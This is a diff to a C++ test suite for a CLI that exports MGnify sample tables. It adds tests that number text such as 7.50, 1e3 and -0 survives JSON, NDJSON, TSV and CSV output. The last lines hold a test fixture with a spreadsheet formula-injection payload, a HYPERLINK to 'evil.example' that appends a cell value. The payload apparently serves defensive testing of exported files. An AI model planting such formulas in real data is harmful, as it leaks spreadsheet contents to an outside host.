@@ -579,6 +579,98 @@ TEST_CASE("samples-table JSON keeps the service's types: numbers, booleans, obje
   CHECK(lines[1].at(index_of(lines[0], "nested")) == R"("{""a"":1,""b"":""x""}")");
 }
 
+TEST_CASE("samples-table keeps the text of numbers a double would respell, in every format",
+          "[cli][tables][samples][numbers]") {
+  const auto& d = v2data::dataset();
+  const auto& study = d.studies[2];
+  json sample = d.samples[static_cast<std::size_t>(study.samples[0])].with_metadata;
+  // Placeholders become the numbers as a service may write them.
+  const std::vector<std::pair<std::string, std::string>> sent = {
+      {"lat", "51.50"},          {"ph", "7.50"}, {"depth", "1e3"}, {"zero", "-0"},
+      {"precise", "0.12345678901234567890"}, {"big", "123456789012345678901234567890"}};
+  for (const auto& [key, text] : sent) sample["metadata"][key] = "@" + key + "@";
+  std::string page = json{{"count", 1}, {"items", json::array({sample})}}.dump();
+  for (const auto& [key, text] : sent) {
+    const std::string placeholder = "\"@" + key + "@\"";
+    page.replace(page.find(placeholder), placeholder.size(), text);
+  }
+  const std::string path =
+      std::string(mgnify::mock::kV2Prefix) + "/studies/" + study.accession + "/samples/";
+  for (const std::string format : {"json", "ndjson"}) {
+    tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page));
+    const auto run = run_tables_cli({"samples-table", study.accession, "--format", format});
+    REQUIRE(run.code == 0);
+    for (const auto& [key, text] : sent) {
+      CAPTURE(format, key);
+      CHECK(run.out.find("\"" + key + "\":" + text) != std::string::npos);
+    }
+    // Still JSON that any reader takes, with the same values.
+    const json rows = format == "json" ? json::parse(run.out)
+                                       : json::array({json::parse(run.out)});
+    CHECK(rows.at(0).at("ph") == 7.5);
+    CHECK(rows.at(0).at("depth") == 1000.0);
+  }
+  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page));
+  const auto tsv = run_tables_cli({"samples-table", study.accession, "--format", "tsv"});
+  REQUIRE(tsv.code == 0);
+  const auto lines = tsv_rows(tsv.out);
+  REQUIRE(lines.size() == 2);
+  for (const auto& [key, text] : sent) {
+    CAPTURE(key);
+    CHECK(lines[1].at(index_of(lines[0], key)) == text);
+  }
+  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page));
+  const auto csv = run_tables_cli({"samples-table", study.accession, "--format", "csv"});
+  REQUIRE(csv.code == 0);
+  for (const auto& [key, text] : sent) {
+    CAPTURE(key);
+    CHECK((csv.out.find("," + text + ",") != std::string::npos ||
+           csv.out.find("," + text + "\n") != std::string::npos));
+  }
+}
+
+TEST_CASE("samples-table --api v1 keeps each value's type and the text of its numbers",
+          "[cli][tables][samples][numbers]") {
+  const std::string study = v1data::study_accession(1);
+  const std::string page =
+      R"({"data":[{"type":"samples","id":"ERS0000001","attributes":{"accession":"ERS0000001",)"
+      R"("latitude":51.50,"longitude":-0,"sample-metadata":[)"
+      R"({"key":"ph","value":7.50,"unit":null},{"key":"depth","value":1e3,"unit":"m"},)"
+      R"({"key":"count","value":123456789012345678901234567890,"unit":null},)"
+      R"({"key":"precise","value":0.12345678901234567890,"unit":null},)"
+      R"({"key":"plain","value":12,"unit":null},{"key":"none","value":null,"unit":null},)"
+      R"({"key":"text","value":"1.50","unit":null}]},"relationships":{},"links":{"self":"x"}}],)"
+      R"("links":{"next":null},"meta":{"pagination":{"page":1,"pages":1,"count":1}}})";
+  const std::string path = std::string(mgnify::mock::kV1Prefix) + "/studies/" + study + "/samples";
+  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page));
+  const auto run =
+      run_tables_cli({"samples-table", "--api", "v1", study, "--format", "ndjson"});
+  tables_mock().clear_faults();
+  REQUIRE(run.code == 0);
+  for (const std::string cell :
+       {R"("latitude":51.50)", R"("longitude":-0)", R"("ph":7.50)", R"x("depth (m)":1e3)x",
+        R"("count":123456789012345678901234567890)", R"("precise":0.12345678901234567890)",
+        R"("plain":12)", R"("none":null)", R"("text":"1.50")"}) {
+    CAPTURE(cell);
+    CHECK(run.out.find(cell) != std::string::npos);
+  }
+
+  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page));
+  const auto tsv = run_tables_cli({"samples-table", "--api", "v1", study, "--format", "tsv"});
+  tables_mock().clear_faults();
+  REQUIRE(tsv.code == 0);
+  const auto lines = tsv_rows(tsv.out);
+  REQUIRE(lines.size() == 2);
+  const std::vector<std::pair<std::string, std::string>> cells = {
+      {"latitude", "51.50"}, {"longitude", "-0"}, {"ph", "7.50"}, {"depth (m)", "1e3"},
+      {"count", "123456789012345678901234567890"}, {"precise", "0.12345678901234567890"},
+      {"plain", "12"}, {"none", ""}, {"text", "1.50"}};
+  for (const auto& [column, text] : cells) {
+    CAPTURE(column);
+    CHECK(lines[1].at(index_of(lines[0], column)) == text);
+  }
+}
+
 /// The study's first sample with a hostile title and metadata value, served as its only sample.
 void serve_formula_sample(const std::string& study_accession, json sample) {
   sample["sample_title"] = R"(=HYPERLINK("http://evil.example/?leak="&A2,"Click"))";
